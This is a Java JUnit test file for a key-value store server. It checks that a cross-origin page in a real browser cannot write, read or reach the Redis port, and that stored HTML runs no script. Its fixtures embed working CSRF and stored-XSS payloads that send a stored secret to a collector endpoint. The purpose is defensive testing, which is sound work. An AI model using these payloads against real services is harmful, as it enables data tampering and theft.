package io.kvstore.server;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpServer;
import io.kvstore.Batch;
import io.kvstore.KvStore;
import io.kvstore.PutOptions;
import io.kvstore.server.testing.Browser;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.file.Path;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A web page of another origin, in a real browser on the machine of the server: it tries to write,
 * to read, to reach the Redis port, and to have a stored page run its script.
 */
class HostilePageTest {
  /** What a page can send without being asked, and reads that it would like the result of. */
  private static final String ATTACK =
      """
      <!doctype html><title>waiting</title><iframe name="frame"></iframe>
      <form id="form" method="post" enctype="text/plain" target="frame">
        <input name='{"value":"form' value='"}'></form>
      <script>
        const data = 'http://HOST:DATA', resp = 'http://HOST:RESP';
        const batch = '[{"op":"put","key":"batch","value":"pwned"}]';
        const post = { method: 'POST', mode: 'no-cors' };
        const tries = [
          fetch(data + '/fetch', { ...post, body: '{"value":"pwned"}' }),
          fetch(data + '/?batch', { ...post, body: batch }),
          fetch(data + '/', { method: 'PUT', body: 'pwned' }),
          fetch(data + '/secret', { method: 'DELETE' }),
          fetch(resp + '/', { ...post, body: 'SET redis pwned\\r\\n' }),
          fetch(data + '/secret').then(r => r.text()).then(home),
          fetch(data + '/?values').then(r => r.text()).then(home),
        ];
        function home(text) { return fetch('/home', { method: 'POST', body: text }); }
        navigator.sendBeacon(data + '/beacon', '{"value":"pwned"}');
        form.action = data + '/form';
        form.submit();
        Promise.allSettled(tries).then(() => setTimeout(() => { document.title = 'done'; }, 500));
      </script>
      """;

  private static final String STORED =
      """
      <html xmlns="http://www.w3.org/1999/xhtml"><head><title>stored</title></head><body>
      <script>
        document.title = 'ran';
        fetch('/?values').then(r => r.text())
          .then(t => fetch('http://127.0.0.1:PORT/home', { method: 'POST', body: t }));
      </script></body></html>
      """;

  @TempDir private Path directory;
  @TempDir private Path profile;

  private final Queue<String> taken = new ConcurrentLinkedQueue<>();
  private ManagedServer server;
  private HttpServer other;
  private Browser browser;

  @BeforeEach
  void start() throws Exception {
    assumeTrue(Browser.isInstalled(), Browser.NOT_INSTALLED);
    server = ManagedServer.start(directory);
    put("secret", "the secret", PutOptions.NONE);
    other = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    browser = Browser.start(profile);
  }

  @AfterEach
  void stop() {
    if (browser != null) {
      browser.close();
    }
    if (other != null) {
      other.stop(0);
    }
    if (server != null) {
      server.close();
    }
  }

  private KvStore<byte[], byte[]> store() {
    return server.server().store();
  }

  private void put(String key, String value, PutOptions options) {
    Batch<byte[], byte[]> batch = store().batch();
    store().write(batch.put(key.getBytes(UTF_8), value.getBytes(UTF_8), options));
  }

  /** Serves a page at another port, and records what the page sends home. */
  private void serve(String page) {
    other.createContext(
        "/",
        exchange -> {
          byte[] body = page.getBytes(UTF_8);
          exchange.getResponseHeaders().set("Content-Type", "text/html");
          exchange.sendResponseHeaders(200, body.length);
          exchange.getResponseBody().write(body);
          exchange.close();
        });
    other.createContext(
        "/home",
        exchange -> {
          taken.add(new String(exchange.getRequestBody().readAllBytes(), UTF_8));
          exchange.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
          exchange.sendResponseHeaders(204, -1);
          exchange.close();
        });
    other.start();
  }

  @ParameterizedTest
  @ValueSource(strings = {"127.0.0.1", "localhost"})
  void pageOfAnotherOriginNeitherWritesNorReads(String host) throws IOException {
    serve(
        ATTACK
            .replace("HOST", host)
            .replace("DATA", String.valueOf(server.main("/").getPort()))
            .replace("RESP", String.valueOf(server.server().respAddress().getPort())));

    browser.open(URI.create("http://127.0.0.1:" + other.getAddress().getPort() + "/"));
    browser.await("document.title === 'done'");

    assertThat(store().size()).isEqualTo(1);
    assertThat(store().get("secret".getBytes(UTF_8))).asString(UTF_8).isEqualTo("the secret");
    assertThat(taken).noneMatch(text -> text.contains("the secret"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"text/html", "application/xhtml+xml"})
  void storedPageRunsNoScript(String type) {
    serve("");
    String port = String.valueOf(other.getAddress().getPort());
    put("page", STORED.replace("PORT", port), PutOptions.NONE.label(type));

    browser.open(server.main("/page"));

    assertThat(List.of("ran")).doesNotContain(String.valueOf(browser.run("return document.title")));
    assertThat(taken).isEmpty();
  }
}
